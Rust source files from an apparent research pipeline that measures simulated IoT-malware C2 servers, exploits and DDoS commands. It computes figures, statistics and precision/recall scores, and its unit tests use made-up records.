pub fn sharing_cdf(data: &Datasets, dns: bool) -> Cdf {
    Cdf::new(
        data.c2s
            .values()
            .filter(|r| r.dns == dns)
            .map(|r| r.samples.len() as u64)
            .collect(),
    )
}

/// Figure 7: CDF of flagging-vendor counts per known C2 (late query).
pub fn fig7(data: &Datasets) -> Cdf {
    Cdf::new(
        data.c2s
            .values()
            .filter(|r| r.vt_late)
            .map(|r| r.vt_late_vendors as u64)
            .collect(),
    )
}

/// Figure 8: per-exploit-group daily sample counts (group id → day →
/// count).
pub fn fig8(data: &Datasets) -> BTreeMap<u8, BTreeMap<u32, u64>> {
    let mut out: BTreeMap<u8, BTreeMap<u32, u64>> = BTreeMap::new();
    for e in &data.exploits {
        let mut groups: BTreeSet<u8> = BTreeSet::new();
        for v in &e.vulns {
            groups.insert(v.info().group);
        }
        for g in groups {
            *out.entry(g).or_default().entry(e.day).or_insert(0) += 1;
        }
    }
    out
}

/// Figure 9: loader filename frequencies (distinct samples per loader).
pub fn fig9(data: &Datasets) -> Counter<String> {
    let mut per_loader: BTreeMap<String, BTreeSet<&str>> = BTreeMap::new();
    for e in &data.exploits {
        if let Some(l) = &e.loader {
            per_loader.entry(l.clone()).or_default().insert(&e.sha256);
        }
    }
    let mut c = Counter::new();
    for (l, s) in per_loader {
        c.add_n(l, s.len() as u64);
    }
    c
}

/// Figure 10: DDoS attacks by target protocol.
pub fn fig10(data: &Datasets) -> Counter<TargetProtocol> {
    let mut c = Counter::new();
    for d in &data.ddos {
        c.add(d.target_protocol);
    }
    c
}

/// Figure 11: attack type × family counts.
pub fn fig11(data: &Datasets) -> BTreeMap<(Family, AttackMethod), u64> {
    let mut out = BTreeMap::new();
    for d in &data.ddos {
        *out.entry((d.family, d.command.method)).or_insert(0) += 1;
    }
    out
}

/// Figure 12 summary: targets by AS kind and country.
#[derive(Debug, Clone)]
pub struct Fig12 {
    /// Distinct target ASes.
    pub as_count: usize,
    /// Distinct target countries.
    pub countries: usize,
    /// AS-kind shares (%) among target ASes.
    pub kind_share: Vec<(String, f64)>,
    /// Share of target ASes that are gaming-specialised (%).
    pub gaming_share: f64,
}

/// Compute Figure 12 from D-DDOS targets.
pub fn fig12(data: &Datasets, asdb: &AsDb) -> Fig12 {
    let mut asns: BTreeSet<u32> = BTreeSet::new();
    for d in &data.ddos {
        if let Some(a) = asdb.asn_of(d.command.target) {
            asns.insert(a.0);
        }
    }
    let mut kinds: Counter<String> = Counter::new();
    let mut countries: BTreeSet<&str> = BTreeSet::new();
    let mut gaming = 0usize;
    for asn in &asns {
        if let Some(rec) = asdb.get(Asn(*asn)) {
            let kind = match rec.kind {
                malnet_netsim::asdb::AsKind::Isp => "ISP",
                malnet_netsim::asdb::AsKind::Business => "Business",
                _ => "Hosting",
            };
            kinds.add(kind.to_string());
            countries.insert(rec.country);
            if rec.kind == malnet_netsim::asdb::AsKind::GamingHosting {
                gaming += 1;
            }
        }
    }
    let n = asns.len();
    Fig12 {
        as_count: n,
        countries: countries.len(),
        kind_share: kinds
            .entries()
            .into_iter()
            .map(|(k, c)| (k, pct(c as usize, n)))
            .collect(),
        gaming_share: pct(gaming, n),
    }
}

/// Figure 13: CDF of C2 counts across ASes, plus the AS count.
pub fn fig13(data: &Datasets) -> (Cdf, usize) {
    let mut per_asn: Counter<u32> = Counter::new();
    for rec in data.c2s.values() {
        if let Some(asn) = rec.asn {
            per_asn.add(asn);
        }
    }
    let counts: Vec<u64> = per_asn.entries().into_iter().map(|(_, c)| c).collect();
    let n = counts.len();
    (Cdf::new(counts), n)
}

/// §3.1 / §3.2 / §5 headline statistics.
#[derive(Debug, Clone)]
pub struct HeadlineStats {
    /// Distinct downloader addresses in D-Exploits payloads.
    pub downloaders: usize,
    /// Downloaders that are also known C2 addresses.
    pub downloaders_also_c2: usize,
    /// % of samples whose every C2 was dead on the collection day.
    pub day0_dead_rate: f64,
    /// Mean observed lifespan (days) across live-seen C2s.
    pub mean_lifespan: f64,
    /// Mean observed lifespan of attack-issuing C2s.
    pub attack_c2_mean_lifespan: f64,
    /// Distinct DDoS commands / C2s / samples.
    pub ddos_commands: usize,
    /// C2 servers that issued commands.
    pub ddos_c2s: usize,
    /// Samples commanded.
    pub ddos_samples: usize,
    /// % of DDoS targets hit by more than one attack type.
    pub multi_type_targets: f64,
    /// Attack C2s unknown to the feeds on attack day.
    pub unknown_attack_c2s: usize,
}

/// Compute the headline stats.
pub fn headline(data: &Datasets) -> HeadlineStats {
    let c2_ips: BTreeSet<String> = data.c2s.values().map(|r| r.ip.to_string()).collect();
    let mut dls: BTreeSet<String> = BTreeSet::new();
    for e in &data.exploits {
        if let Some(dl) = e.downloader {
            dls.insert(dl.to_string());
        }
    }
    let also_c2 = dls.iter().filter(|d| c2_ips.contains(*d)).count();

    let samples_with_c2: Vec<_> = data
        .samples
        .iter()
        .filter(|s| !s.c2_addrs.is_empty())
        .collect();
    let day0_dead = samples_with_c2
        .iter()
        .filter(|s| {
            s.c2_addrs.iter().all(|a| {
                data.c2s
                    .get(a)
                    .map(|r| !r.live_days.contains(&s.day))
                    .unwrap_or(true)
            })
        })
        .count();

    let live_spans: Vec<u64> = data
        .c2s
        .values()
        .filter(|r| !r.live_days.is_empty())
        .map(|r| u64::from(r.observed_lifespan()))
        .collect();
    let mean_lifespan = if live_spans.is_empty() {
        0.0
    } else {
        live_spans.iter().sum::<u64>() as f64 / live_spans.len() as f64
    };

    let attack_addrs: BTreeSet<&str> = data.ddos.iter().map(|d| d.c2_addr.as_str()).collect();
    let attack_spans: Vec<u64> = attack_addrs
        .iter()
        .filter_map(|a| data.c2s.get(*a))
        .filter(|r| !r.live_days.is_empty())
        .map(|r| u64::from(r.observed_lifespan()))
        .collect();
    let attack_mean = if attack_spans.is_empty() {
        0.0
    } else {
        attack_spans.iter().sum::<u64>() as f64 / attack_spans.len() as f64
    };

    let mut per_target: BTreeMap<std::net::Ipv4Addr, BTreeSet<AttackMethod>> = BTreeMap::new();
    for d in &data.ddos {
        per_target
            .entry(d.command.target)
            .or_default()
            .insert(d.command.method);
    }
    let multi = per_target.values().filter(|m| m.len() > 1).count();

    HeadlineStats {
        downloaders: dls.len(),
        downloaders_also_c2: also_c2,
        day0_dead_rate: pct(day0_dead, samples_with_c2.len()),
        mean_lifespan,
        attack_c2_mean_lifespan: attack_mean,
        ddos_commands: data.ddos.len(),
        ddos_c2s: attack_addrs.len(),
        ddos_samples: data
            .ddos
            .iter()
            .map(|d| d.sha256.as_str())
            .collect::<BTreeSet<_>>()
            .len(),
        multi_type_targets: pct(multi, per_target.len()),
        unknown_attack_c2s: attack_addrs
            .iter()
            .filter(|a| {
                data.ddos
                    .iter()
                    .any(|d| d.c2_addr == **a && !d.c2_known_to_feeds)
            })
            .count(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::datasets::{C2Record, DdosDetection, DdosRecord, ExploitRecord, ProbedC2};
    use std::net::Ipv4Addr;

    fn rec(addr: &str, dns: bool, asn: u32, live: Vec<u32>, samples: usize) -> C2Record {
        C2Record {
            addr: addr.into(),
            ip: addr.parse().unwrap_or(Ipv4Addr::new(9, 9, 9, 1)),
            port: 23,
            dns,
            asn: Some(asn),
            first_seen_day: 35,
            samples: (0..samples).map(|i| format!("s{i}")).collect(),
            live_days: live,
            vt_day0: true,
            vt_day0_vendors: 3,
            vt_late: true,
            vt_late_vendors: 9,
            protocol_verified: true,
            families: vec![Family::Mirai],
        }
    }

    fn sample_data() -> Datasets {
        let mut d = Datasets::default();
        d.c2s.insert(
            "10.1.0.1".into(),
            rec("10.1.0.1", false, 36352, vec![35], 1),
        );
        d.c2s.insert(
            "10.1.0.2".into(),
            rec("10.1.0.2", false, 36352, vec![35, 38], 12),
        );
        let mut miss = rec("10.1.0.3", false, 14061, vec![], 2);
        miss.vt_day0 = false;
        d.c2s.insert("10.1.0.3".into(), miss);
        let mut dnsrec = rec("cnc.x.example", true, 16276, vec![40, 41, 44], 3);
        dnsrec.vt_day0 = false;
        dnsrec.vt_late = false;
        d.c2s.insert("cnc.x.example".into(), dnsrec);
        d.exploits.push(ExploitRecord {
            sha256: "sA".into(),
            day: 35,
            vulns: vec![VulnId::Gpon10561, VulnId::Gpon10562],
            port: 8080,
            downloader: Some(Ipv4Addr::new(10, 1, 0, 1)),
            loader: Some("t8UsA2.sh".into()),
            payload: vec![],
        });
        d.exploits.push(ExploitRecord {
            sha256: "sB".into(),
            day: 36,
            vulns: vec![VulnId::MvpowerDvr],
            port: 80,
            downloader: Some(Ipv4Addr::new(44, 0, 0, 1)),
            loader: Some("wget.sh".into()),
            payload: vec![],
        });
        d.probed.push(ProbedC2 {
            ip: Ipv4Addr::new(77, 99, 0, 10),
            port: 1312,
            probes: vec![
                (0, true),
                (1, false),
                (2, false),
                (3, true),
                (4, false),
                (5, false),
            ],
        });
        for (fam, method, target) in [
            (
                Family::Mirai,
                AttackMethod::UdpFlood,
                Ipv4Addr::new(20, 1, 0, 5),
            ),
            (
                Family::Mirai,
                AttackMethod::SynFlood,
                Ipv4Addr::new(20, 1, 0, 5),
            ),
            (
                Family::Gafgyt,
                AttackMethod::Std,
                Ipv4Addr::new(30, 0, 0, 9),
            ),
        ] {
            d.ddos.push(DdosRecord {
                sha256: format!("s{fam}"),
                family: fam,
                c2_addr: "10.1.0.2".into(),
                c2_ip: Ipv4Addr::new(10, 1, 0, 2),
                day: 38,
                command: malnet_protocols::AttackCommand {
                    method,
                    target,
                    port: 80,
                    duration_secs: 10,
                },
                detection: DdosDetection::Both,
                measured_pps: 150,
                verified: true,
                target_protocol: if method == AttackMethod::SynFlood {
                    TargetProtocol::Tcp
                } else {
                    TargetProtocol::Udp
                },
                c2_known_to_feeds: true,
            });
        }
        d
    }

    #[test]
    fn table2_orders_by_count() {
        let asdb = malnet_netsim::asdb::standard_internet(5, 2, 1, 1);
        let (rows, share) = table2(&sample_data(), &asdb, 3);
        assert_eq!(rows[0].asn, 36352);
        assert_eq!(rows[0].c2_count, 2);
        assert_eq!(rows[0].name, "ColoCrossing");
        assert!(rows[0].hosting);
        assert!(share > 0.9); // tiny sample: all in "top 10"
    }

    #[test]
    fn table3_splits_ip_dns() {
        let t = table3(&sample_data());
        assert!((t.ip_day0 - 33.333).abs() < 0.1); // 1 of 3 IP C2s missed
        assert!((t.dns_day0 - 100.0).abs() < 0.1);
        assert!((t.dns_late - 100.0).abs() < 0.1);
        assert!(t.all_day0 > t.all_late);
    }

    #[test]
    fn table4_counts_distinct_samples() {
        let t = table4(&sample_data());
        let gpon = t.iter().find(|(v, _)| *v == VulnId::Gpon10561).unwrap();
        assert_eq!(gpon.1, 1);
        let huawei = t.iter().find(|(v, _)| *v == VulnId::HuaweiHg532).unwrap();
        assert_eq!(huawei.1, 0);
    }

    #[test]
    fn fig4_elusiveness() {
        let f = fig4(&sample_data(), 6);
        assert_eq!(f.servers, 1);
        assert_eq!(f.measurements, 6);
        // Both successes were followed by a miss.
        assert!((f.silent_after_success - 100.0).abs() < 0.1);
        assert!(!f.any_full_day);
    }

    #[test]
    fn lifespan_and_sharing_cdfs() {
        let d = sample_data();
        let l = lifespan_cdf(&d, false);
        assert_eq!(l.len(), 2); // two live-seen IP C2s
        assert_eq!(l.max(), 4); // 35..38
        let s = sharing_cdf(&d, false);
        assert_eq!(s.max(), 12);
        let dns = lifespan_cdf(&d, true);
        assert_eq!(dns.max(), 5); // 40..44
    }

    #[test]
    fn ddos_figures() {
        let d = sample_data();
        let f10 = fig10(&d);
        assert_eq!(f10.get(&TargetProtocol::Udp), 2);
        assert_eq!(f10.get(&TargetProtocol::Tcp), 1);
        let f11 = fig11(&d);
        assert_eq!(f11[&(Family::Mirai, AttackMethod::UdpFlood)], 1);
        let h = headline(&d);
        assert_eq!(h.ddos_commands, 3);
        assert_eq!(h.ddos_c2s, 1);
        assert_eq!(h.ddos_samples, 2);
        assert!((h.multi_type_targets - 50.0).abs() < 0.1);
        assert_eq!(h.downloaders, 2);
        assert_eq!(h.downloaders_also_c2, 1);
    }

    #[test]
    fn fig8_groups_by_exploit_group() {
        let f = fig8(&sample_data());
        assert_eq!(f[&1][&35], 1); // GPON pair counted once as group 1
        assert_eq!(f[&6][&36], 1);
    }

    #[test]
    fn fig9_loader_counts() {
        let f = fig9(&sample_data());
        assert_eq!(f.get(&"t8UsA2.sh".to_string()), 1);
        assert_eq!(f.get(&"wget.sh".to_string()), 1);
    }

    #[test]
    fn fig13_as_spread() {
        let (cdf, n) = fig13(&sample_data());
        assert_eq!(n, 3);
        assert_eq!(cdf.max(), 2);
    }
}
