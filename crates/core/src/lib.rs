//! # malnet-core — the MalNet measurement pipeline
//!
//! The paper's primary contribution: a binary-centric, timeliness-focused
//! dynamic-analysis pipeline that turns a daily feed of IoT malware
//! binaries into network-level intelligence. This crate orchestrates the
//! substrates (`malnet-sandbox`, `malnet-netsim`, `malnet-intel`,
//! `malnet-botgen`'s world) into the five datasets of Table 1 and all of
//! the paper's analyses.
//!
//! * [`c2detect`] — C2 address extraction from capture bytes (CnCHunter's
//!   ~90%-precision traffic heuristics, §2.1).
//! * [`ddos`] — DDoS command extraction: protocol profilers + the
//!   100-pps behavioural heuristic (§2.5), with cross-verification.
//! * [`prober`] — the D-PC2 active-probing study: subnet × port sweeps
//!   on a 4-hour cadence with banner filtering and weaponized-malware
//!   engagement checks (§2.3b).
//! * [`pipeline`] — the daily loop: collect, vet, activate, extract,
//!   cross-validate with the intelligence feeds, track liveness.
//! * [`chaos`] — deterministic fault plans (link loss, DNS failures,
//!   C2 downtime, binary mutation, worker panics, syscall-boundary
//!   emulator faults) and the graceful-degradation discipline behind
//!   the D-Health section.
//! * [`datasets`] — D-Samples, D-C2s, D-PC2, D-Exploits, D-DDOS.
//! * [`stats`] — CDFs, distributions and the text renderers used by the
//!   table/figure regeneration harness.
//! * [`analysis`] — one function per paper table/figure.
//! * [`eval`] — the evaluation harness comparing pipeline measurements
//!   against world ground truth (precision/recall of the instruments).
//!
//! The pipeline treats the world as a black box: it reads the feed
//! (binaries + hashes + publish days + AV verdicts) and interacts with
//! the simulated Internet; ground truth is only touched by [`eval`].

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod analysis;
pub mod c2detect;
pub mod chaos;
pub mod datasets;
pub mod ddos;
pub mod eval;
mod par;
pub mod pipeline;
pub mod prober;
pub mod stats;

pub use chaos::FaultPlan;
pub use datasets::Datasets;
pub use pipeline::{Pipeline, PipelineOpts};
