//! Evaluation harness: scoring the pipeline's measurements against the
//! world's ground truth.
//!
//! This is the only module allowed to read `malnet_botgen::world`
//! internals. It answers "how good are the instruments?" — detection
//! precision/recall for C2 addresses, exploit classification recall, and
//! DDoS command recall — mirroring the paper's own validation notes
//! (CnCHunter's ~90% C2 precision, the ~90% activation rate).

use std::collections::BTreeSet;

use malnet_botgen::world::World;

use crate::datasets::Datasets;
use crate::stats::pct;

/// Instrument scores.
#[derive(Debug, Clone, PartialEq)]
pub struct EvalReport {
    /// % of analyzed samples that activated.
    pub activation_rate: f64,
    /// C2 detection precision: detected addresses that are real C2s.
    pub c2_precision: f64,
    /// C2 detection recall over non-P2P analyzed samples' primaries.
    pub c2_recall: f64,
    /// Exploit classification recall: ground-truth exploiting samples
    /// (analyzed + activated) whose exploits were captured.
    pub exploit_recall: f64,
    /// DDoS command recall: planned commands observed.
    pub ddos_recall: f64,
    /// Family labelling accuracy over analyzed samples (YARA).
    pub label_accuracy: f64,
}

/// Score a pipeline run against its world.
pub fn evaluate(world: &World, data: &Datasets) -> EvalReport {
    let analyzed: BTreeSet<&str> = data.samples.iter().map(|s| s.sha256.as_str()).collect();
    // Lookup-only index; iteration never touches it. lint: hash-ok
    let truth_by_sha: std::collections::HashMap<&str, &malnet_botgen::world::SampleTruth> = world
        .samples
        .iter()
        .map(|s| (s.sha256.as_str(), s))
        .collect();

    // Activation.
    let activated = data.samples.iter().filter(|s| s.activated).count();
    let activation_rate = pct(activated, data.samples.len());

    // C2 precision/recall.
    let truth_addrs: BTreeSet<String> = world.c2s.iter().map(|c| c.addr_string()).collect();
    let detected: BTreeSet<&String> = data.c2s.keys().collect();
    let true_pos = detected
        .iter()
        .filter(|a| truth_addrs.contains(**a))
        .count();
    let c2_precision = pct(true_pos, detected.len());
    let mut expected = 0usize;
    let mut found = 0usize;
    for s in &data.samples {
        let Some(truth) = truth_by_sha.get(s.sha256.as_str()) else {
            continue;
        };
        if truth.family.is_p2p() || truth.corrupted || truth.c2_ids.is_empty() {
            continue;
        }
        expected += 1;
        let primary = world.c2s[truth.c2_ids[0]].addr_string();
        if s.c2_addrs.contains(&primary) {
            found += 1;
        }
    }
    let c2_recall = pct(found, expected);

    // Exploit recall.
    let exploit_samples: BTreeSet<&str> = data.exploits.iter().map(|e| e.sha256.as_str()).collect();
    let mut exp_expected = 0usize;
    let mut exp_found = 0usize;
    for s in &data.samples {
        let Some(truth) = truth_by_sha.get(s.sha256.as_str()) else {
            continue;
        };
        if truth.corrupted || truth.spec.exploits.is_empty() || !s.activated {
            continue;
        }
        exp_expected += 1;
        if exploit_samples.contains(s.sha256.as_str()) {
            exp_found += 1;
        }
    }
    let exploit_recall = pct(exp_found, exp_expected);

    // DDoS recall: planned commands for analyzed samples vs observed.
    let mut planned = 0usize;
    let mut observed = 0usize;
    for plan in &world.attacks {
        let sha = &world.samples[plan.sample_id].sha256;
        if !analyzed.contains(sha.as_str()) {
            continue;
        }
        for (_, cmd) in &plan.commands {
            planned += 1;
            if data.ddos.iter().any(|d| {
                d.sha256 == *sha && d.command.method == cmd.method && d.command.target == cmd.target
            }) {
                observed += 1;
            }
        }
    }
    let ddos_recall = pct(observed, planned);

    // Family labels.
    let mut label_hits = 0usize;
    let mut label_total = 0usize;
    for s in &data.samples {
        let Some(truth) = truth_by_sha.get(s.sha256.as_str()) else {
            continue;
        };
        label_total += 1;
        if s.yara_family.as_deref() == Some(truth.family.label()) {
            label_hits += 1;
        }
    }
    let label_accuracy = pct(label_hits, label_total);

    EvalReport {
        activation_rate,
        c2_precision,
        c2_recall,
        exploit_recall,
        ddos_recall,
        label_accuracy,
    }
}

/// Mean absolute error (in days) between each detected true C2's
/// observed lifespan and its ground-truth lifetime, over the portion of
/// its life the pipeline could have watched.
///
/// The truth window for a C2 first seen on `first_seen_day` is
/// `max(born_day, first_seen_day) .. dead_day` — the instrument cannot
/// be docked for days before it knew the address existed. Returns `0.0`
/// when no detected address matches a true C2 (nothing measurable, not
/// a perfect score: callers pair this with recall). This is the
/// C2-lifetime axis the `chaos_sweep` degradation frontier charts —
/// fault pressure first blurs lifetimes (missed liveness probes) before
/// it destroys detection outright.
pub fn c2_lifetime_error(world: &World, data: &Datasets) -> f64 {
    let mut total = 0.0f64;
    let mut n = 0usize;
    for truth in &world.c2s {
        let Some(rec) = data.c2s.get(&truth.addr_string()) else {
            continue;
        };
        let watch_start = truth.born_day.max(rec.first_seen_day);
        let expected = truth.dead_day.saturating_sub(watch_start);
        let observed = rec.observed_lifespan();
        total += (f64::from(observed) - f64::from(expected)).abs();
        n += 1;
    }
    if n == 0 {
        return 0.0;
    }
    total / n as f64
}

/// Agreement counts between the static triage candidates and the
/// dynamically observed C2 addresses, for one family (or overall).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct XvalScore {
    /// Family label (`yara`), `"unlabelled"`, or `"overall"`.
    pub family: String,
    /// Samples scored (has both a triage record and a sample record).
    pub samples: usize,
    /// Static C2 candidates across those samples.
    pub static_candidates: usize,
    /// Dynamically observed C2 addresses across those samples.
    pub dynamic_c2s: usize,
    /// Addresses found by both instruments.
    pub agreed: usize,
    /// Dynamic addresses that are IPv4 literals (the hardcoded-IP
    /// subset the paper's static profiling targets).
    pub dynamic_ips: usize,
    /// Hardcoded-IP addresses the static pass also recovered.
    pub ip_agreed: usize,
}

impl XvalScore {
    /// % of static candidates confirmed dynamically.
    pub fn precision(&self) -> f64 {
        pct(self.agreed, self.static_candidates)
    }

    /// % of dynamic C2s the static pass recovered.
    pub fn recall(&self) -> f64 {
        pct(self.agreed, self.dynamic_c2s)
    }

    /// % of hardcoded-IP dynamic C2s the static pass recovered.
    pub fn ip_recall(&self) -> f64 {
        pct(self.ip_agreed, self.dynamic_ips)
    }

    fn absorb(&mut self, o: &XvalScore) {
        self.samples += o.samples;
        self.static_candidates += o.static_candidates;
        self.dynamic_c2s += o.dynamic_c2s;
        self.agreed += o.agreed;
        self.dynamic_ips += o.dynamic_ips;
        self.ip_agreed += o.ip_agreed;
    }
}

/// Static-vs-dynamic cross-validation of C2 extraction.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct StaticXval {
    /// Per-family scores, sorted by family label.
    pub per_family: Vec<XvalScore>,
    /// Aggregate over every scored sample.
    pub overall: XvalScore,
}

/// Score the static triage (D-Triage candidates) against the dynamic
/// pipeline's per-sample C2 observations (D-Samples `c2_addrs`).
///
/// Needs only the datasets — no ground truth — because the question is
/// instrument *agreement*, not instrument accuracy: would a
/// static-only profiling of this corpus have found the endpoints the
/// sandbox observed? Both instruments use the same address convention
/// (domain string when DNS-derived, dotted-quad otherwise), so plain
/// set intersection per sample is the right comparison.
pub fn static_cross_validation(data: &Datasets) -> StaticXval {
    // Lookup-only index; iteration never touches it. lint: hash-ok
    let triage_by_sha: std::collections::HashMap<&str, &crate::datasets::TriageRecord> =
        data.triage.iter().map(|t| (t.sha256.as_str(), t)).collect();
    let mut fams: std::collections::BTreeMap<String, XvalScore> = Default::default();
    for s in &data.samples {
        let Some(t) = triage_by_sha.get(s.sha256.as_str()) else {
            continue;
        };
        let fam = s
            .yara_family
            .clone()
            .unwrap_or_else(|| "unlabelled".to_string());
        let score = fams.entry(fam.clone()).or_insert_with(|| XvalScore {
            family: fam,
            ..XvalScore::default()
        });
        score.samples += 1;
        let dynamic: BTreeSet<&str> = s.c2_addrs.iter().map(String::as_str).collect();
        let stat: BTreeSet<&str> = t.candidates.iter().map(String::as_str).collect();
        score.static_candidates += stat.len();
        score.dynamic_c2s += dynamic.len();
        score.agreed += stat.intersection(&dynamic).count();
        for a in &dynamic {
            if a.parse::<std::net::Ipv4Addr>().is_ok() {
                score.dynamic_ips += 1;
                if stat.contains(a) {
                    score.ip_agreed += 1;
                }
            }
        }
    }
    let mut overall = XvalScore {
        family: "overall".to_string(),
        ..XvalScore::default()
    };
    let per_family: Vec<XvalScore> = fams.into_values().collect();
    for f in &per_family {
        overall.absorb(f);
    }
    StaticXval {
        per_family,
        overall,
    }
}

impl std::fmt::Display for StaticXval {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        for s in self.per_family.iter().chain(std::iter::once(&self.overall)) {
            writeln!(
                f,
                "{:<12} samples {:>4} | precision {:>5.1}% | recall {:>5.1}% | ip-recall {:>5.1}%",
                s.family,
                s.samples,
                s.precision(),
                s.recall(),
                s.ip_recall()
            )?;
        }
        Ok(())
    }
}

impl std::fmt::Display for EvalReport {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        writeln!(f, "activation rate : {:>5.1}%", self.activation_rate)?;
        writeln!(f, "C2 precision    : {:>5.1}%", self.c2_precision)?;
        writeln!(f, "C2 recall       : {:>5.1}%", self.c2_recall)?;
        writeln!(f, "exploit recall  : {:>5.1}%", self.exploit_recall)?;
        writeln!(f, "DDoS recall     : {:>5.1}%", self.ddos_recall)?;
        write!(f, "label accuracy  : {:>5.1}%", self.label_accuracy)
    }
}
