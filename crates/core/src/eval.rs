//! Evaluation harness: scoring the pipeline's measurements against the
//! world's ground truth.
//!
//! This is the only module allowed to read `malnet_botgen::world`
//! internals. It answers "how good are the instruments?" — detection
//! precision/recall for C2 addresses, exploit classification recall, and
//! DDoS command recall — mirroring the paper's own validation notes
//! (CnCHunter's ~90% C2 precision, the ~90% activation rate).

use std::collections::BTreeSet;

use malnet_botgen::world::World;

use crate::datasets::Datasets;
use crate::stats::pct;

/// Instrument scores.
#[derive(Debug, Clone, PartialEq)]
pub struct EvalReport {
    /// % of analyzed samples that activated.
    pub activation_rate: f64,
    /// C2 detection precision: detected addresses that are real C2s.
    pub c2_precision: f64,
    /// C2 detection recall over non-P2P analyzed samples' primaries.
    pub c2_recall: f64,
    /// Exploit classification recall: ground-truth exploiting samples
    /// (analyzed + activated) whose exploits were captured.
    pub exploit_recall: f64,
    /// DDoS command recall: planned commands observed.
    pub ddos_recall: f64,
    /// Family labelling accuracy over analyzed samples (YARA).
    pub label_accuracy: f64,
}

/// Score a pipeline run against its world.
pub fn evaluate(world: &World, data: &Datasets) -> EvalReport {
    let analyzed: BTreeSet<&str> = data.samples.iter().map(|s| s.sha256.as_str()).collect();
    let truth_by_sha: std::collections::HashMap<&str, &malnet_botgen::world::SampleTruth> = world
        .samples
        .iter()
        .map(|s| (s.sha256.as_str(), s))
        .collect();

    // Activation.
    let activated = data.samples.iter().filter(|s| s.activated).count();
    let activation_rate = pct(activated, data.samples.len());

    // C2 precision/recall.
    let truth_addrs: BTreeSet<String> = world.c2s.iter().map(|c| c.addr_string()).collect();
    let detected: BTreeSet<&String> = data.c2s.keys().collect();
    let true_pos = detected.iter().filter(|a| truth_addrs.contains(**a)).count();
    let c2_precision = pct(true_pos, detected.len());
    let mut expected = 0usize;
    let mut found = 0usize;
    for s in &data.samples {
        let Some(truth) = truth_by_sha.get(s.sha256.as_str()) else {
            continue;
        };
        if truth.family.is_p2p() || truth.corrupted || truth.c2_ids.is_empty() {
            continue;
        }
        expected += 1;
        let primary = world.c2s[truth.c2_ids[0]].addr_string();
        if s.c2_addrs.contains(&primary) {
            found += 1;
        }
    }
    let c2_recall = pct(found, expected);

    // Exploit recall.
    let exploit_samples: BTreeSet<&str> =
        data.exploits.iter().map(|e| e.sha256.as_str()).collect();
    let mut exp_expected = 0usize;
    let mut exp_found = 0usize;
    for s in &data.samples {
        let Some(truth) = truth_by_sha.get(s.sha256.as_str()) else {
            continue;
        };
        if truth.corrupted || truth.spec.exploits.is_empty() || !s.activated {
            continue;
        }
        exp_expected += 1;
        if exploit_samples.contains(s.sha256.as_str()) {
            exp_found += 1;
        }
    }
    let exploit_recall = pct(exp_found, exp_expected);

    // DDoS recall: planned commands for analyzed samples vs observed.
    let mut planned = 0usize;
    let mut observed = 0usize;
    for plan in &world.attacks {
        let sha = &world.samples[plan.sample_id].sha256;
        if !analyzed.contains(sha.as_str()) {
            continue;
        }
        for (_, cmd) in &plan.commands {
            planned += 1;
            if data.ddos.iter().any(|d| {
                d.sha256 == *sha
                    && d.command.method == cmd.method
                    && d.command.target == cmd.target
            }) {
                observed += 1;
            }
        }
    }
    let ddos_recall = pct(observed, planned);

    // Family labels.
    let mut label_hits = 0usize;
    let mut label_total = 0usize;
    for s in &data.samples {
        let Some(truth) = truth_by_sha.get(s.sha256.as_str()) else {
            continue;
        };
        label_total += 1;
        if s.yara_family.as_deref() == Some(truth.family.label()) {
            label_hits += 1;
        }
    }
    let label_accuracy = pct(label_hits, label_total);

    EvalReport {
        activation_rate,
        c2_precision,
        c2_recall,
        exploit_recall,
        ddos_recall,
        label_accuracy,
    }
}

impl std::fmt::Display for EvalReport {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        writeln!(f, "activation rate : {:>5.1}%", self.activation_rate)?;
        writeln!(f, "C2 precision    : {:>5.1}%", self.c2_precision)?;
        writeln!(f, "C2 recall       : {:>5.1}%", self.c2_recall)?;
        writeln!(f, "exploit recall  : {:>5.1}%", self.exploit_recall)?;
        writeln!(f, "DDoS recall     : {:>5.1}%", self.ddos_recall)?;
        write!(f, "label accuracy  : {:>5.1}%", self.label_accuracy)
    }
}
