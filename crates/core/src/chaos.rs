//! Deterministic chaos engineering: declarative, seeded fault plans.
//!
//! MalNet's real deployment survived a hostile substrate — C2 servers
//! with a median lifetime of 3 days, dead resolvers, lossy paths, and
//! binaries that crash or hang. A [`FaultPlan`] reproduces that
//! hostility *on purpose*, under the same byte-determinism discipline as
//! the rest of the pipeline:
//!
//! * every fault decision is a pure function of
//!   `(fault_seed, day, coordinate)` via [`sub_seed`]-derived generators,
//!   so a fixed plan injects the identical faults no matter how phase A
//!   is scheduled across threads or processes;
//! * a plan with every rate at zero ([`FaultPlan::none`], the default)
//!   draws **zero** RNG values and perturbs nothing — the run is
//!   byte-identical to a chaos-unaware build (enforced by
//!   `crates/core/tests/parallel_determinism.rs`).
//!
//! The plan covers six fault families: world-network link loss and
//! corruption, DNS failure injection (drop / SERVFAIL / NXDOMAIN),
//! scheduled C2 downtime windows, binary mutation (truncation and bit
//! flips) at feed ingestion, forced phase-A worker panics, and — inside
//! the emulator itself — syscall-boundary faults (short I/O, `EINTR`,
//! `ENOMEM`, fd-cap exhaustion) delegated per sample to
//! [`malnet_sandbox::faults::EmuFaults`]. The pipeline applies it in
//! [`crate::pipeline`]; quarantined casualties land in the D-Health
//! dataset section.

use malnet_netsim::dns::DnsFaults;
use malnet_netsim::net::LinkFaults;
use malnet_prng::rngs::StdRng;
use malnet_prng::{sub_seed, Rng, SeedableRng};
use malnet_sandbox::faults::EmuFaults;

/// Sub-seed domain for world-network link faults (per day).
const DOMAIN_WORLD_LINK: u64 = 0xc4a0_0000_0000_0001;
/// Sub-seed domain for contained-network link faults (per day, sample).
const DOMAIN_CONTAINED_LINK: u64 = 0xc4a0_0000_0000_0002;
/// Sub-seed domain for C2 downtime windows (per day, host).
const DOMAIN_DOWNTIME: u64 = 0xc4a0_0000_0000_0003;
/// Sub-seed domain for binary mutation (per day, sample).
const DOMAIN_BINARY: u64 = 0xc4a0_0000_0000_0004;
/// Sub-seed domain for forced worker panics (per day, sample).
const DOMAIN_PANIC: u64 = 0xc4a0_0000_0000_0005;
